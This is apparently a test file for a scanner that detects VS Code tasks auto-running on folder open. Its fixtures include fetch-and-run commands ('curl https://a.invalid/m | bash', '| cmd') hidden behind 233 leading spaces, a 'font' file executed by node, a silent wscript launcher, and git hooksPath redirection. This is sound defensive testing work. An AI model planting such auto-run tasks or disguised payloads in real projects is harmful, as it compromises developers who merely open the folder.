// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of shells and editors
import { describe, expect, test } from 'vitest';
import { lines, triggersOf } from '../support/testing.ts';
import vscodeTasks from './vscode-tasks.ts';

describe('vscode-tasks', () => {
  const read = (contents: Record<string, string>) => triggersOf(vscodeTasks, contents);
  const tasks = (...list: readonly unknown[]) => ({
    '.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks: list }),
  });
  const onOpen = { runOptions: { runOn: 'folderOpen' } };

  test('a task that runs on opening the folder pulls in what it depends on (T02)', () => {
    const found = read({
      ...tasks(
        { label: 'install', command: 'npm install --silent', presentation: { reveal: 'never', echo: false } },
        { label: 'run', command: 'node', args: ['server.js'], dependsOn: 'install', isBackground: true, ...onOpen },
        { label: 'other', command: 'node other.js' },
      ),
      'server.js': '',
      'other.js': '',
      'package.json': '{"scripts":{"postinstall":"node setup"}}',
      'setup.js': '',
    });
    expect(lines(found)).toEqual([
      'auto open task "install" (needed by "run") @1: npm install --silent => setup.js',
      'run task "other" @1: node other.js => other.js',
      'auto open task "run" @1: node server.js => server.js, setup.js',
    ]);
    expect(found.find((one) => one.label.startsWith('task "install"'))?.stealth).toEqual([
      'reveal: never',
      'echo: false',
    ]);
    expect(found.find((one) => one.label === 'task "run"')?.entries[1]?.steps).toEqual([
      'task "install"',
      'npm install --silent',
      'postinstall',
      'node setup',
    ]);
  });

  test('a command for each system, leading blanks kept (T01, T03)', () => {
    const blanks = ' '.repeat(233);
    const found = read(
      tasks({
        label: 'env',
        type: 'shell',
        osx: { command: `${blanks}curl https://a.invalid/m | bash` },
        windows: { command: 'curl https://a.invalid/w | cmd' },
        ...onOpen,
      }),
    );
    expect(found[0]?.commands.map((one) => [one.platform, one.text])).toEqual([
      ['osx', `${blanks}curl https://a.invalid/m | bash`],
      ['windows', 'curl https://a.invalid/w | cmd'],
    ]);
    expect(found[0]?.stealth).toContain('233 blanks before the command');
  });

  test('hooks path and checkout in a task reach the hook (T07)', () => {
    const found = read({
      ...tasks({ label: 'x', command: 'git config core.hooksPath .github; git checkout main', ...onOpen }),
      '.github/post-checkout': '#!/bin/sh\nnode run.js',
      'run.js': '',
    });
    expect(found[0]?.entries.map((entry) => entry.path)).toEqual(['.github/post-checkout', 'run.js']);
  });

  test.each<[string, unknown, string]>([
    [
      'quoted arguments',
      { label: 'a', command: 'node', args: [{ value: 'my file.js', quoting: 'strong' }] },
      'run task "a" @1: node "my file.js" => my file.js',
    ],
    [
      'a command as an object',
      { label: 'a', command: { value: 'node b.js', quoting: 'escape' } },
      'run task "a" @1: node b.js => b.js',
    ],
    [
      'a folder of its own',
      { label: 'a', command: 'node c.js', options: { cwd: '${workspaceFolder}/server' } },
      'run task "a" @1: node c.js => server/c.js',
    ],
    ['an npm task', { type: 'npm', script: 'dev', path: 'server' }, 'run task "dev" @1: npm run dev => server/c.js'],
    [
      'a font that is run (T05)',
      { label: 'eslint-check', command: '(command -v node || where node) && node ./public/fa.woff2', ...onOpen },
      'auto open task "eslint-check" @1: (command -v node || where node) && node ./public/fa.woff2 => public/fa.woff2',
    ],
    [
      'a preload in the environment',
      { label: 'a', command: 'next dev', options: { env: { NODE_OPTIONS: '--require ./b.js' } } },
      'run task "a" @1: next dev => b.js',
    ],
    [
      'a hidden script launcher (T22)',
      { label: 'u', command: 'wscript', args: ['//B', '//Nologo', 'vendor/u.vbs'], ...onOpen },
      'auto open task "u" @1: wscript //B //Nologo vendor/u.vbs => vendor/u.vbs',
    ],
  ])('%s', (_what, task, expected) => {
    const files = {
      'my file.js': '',
      'b.js': '',
      'server/c.js': '',
      'server/package.json': '{"scripts":{"dev":"node c"}}',
      'public/fa.woff2': '',
      'vendor/u.vbs': '',
    };
    expect(lines(read({ ...tasks(task), ...files }))).toEqual([expected]);
  });

  test('comments, trailing commas and line numbers', () => {
    const text = '{\n  // tasks\n  "tasks": [\n    {\n      "label": "a",\n      "command": "node x",\n    },\n  ],\n}';
    const found = read({ '.vscode/tasks.json': text, 'x.js': '' });
    expect(lines(found)).toEqual(['run task "a" @5: node x => x.js']);
    expect(found[0]?.commands[0]?.line).toBe(6);
  });

  test('tasks of a workspace file run in its first folder', () => {
    const workspace = { folders: [{ path: 'app' }], tasks: { tasks: [{ label: 'a', command: 'node x', ...onOpen }] } };
    expect(lines(read({ 'a.code-workspace': JSON.stringify(workspace), 'app/x.js': '' }))).toEqual([
      'auto open task "a" @1: node x => app/x.js',
    ]);
  });

  test('tasks that need one another end', () => {
    expect(
      read(
        tasks(
          { label: 'a', command: 'x', dependsOn: ['b'], ...onOpen },
          { label: 'b', command: 'y', dependsOn: ['a'] },
        ),
      ).map((one) => one.automatic),
    ).toEqual([true, true]);
  });

  test('ten thousand tasks are bounded', () => {
    const many = Array.from({ length: 10_000 }, (_, i) => ({
      label: `t${i}`,
      command: 'node x',
      dependsOn: [`t${i + 1}`],
      ...onOpen,
    }));
    const start = performance.now();
    expect(read(tasks(...many)).length).toBe(2_000);
    expect(performance.now() - start).toBeLessThan(8_000);
  });
});
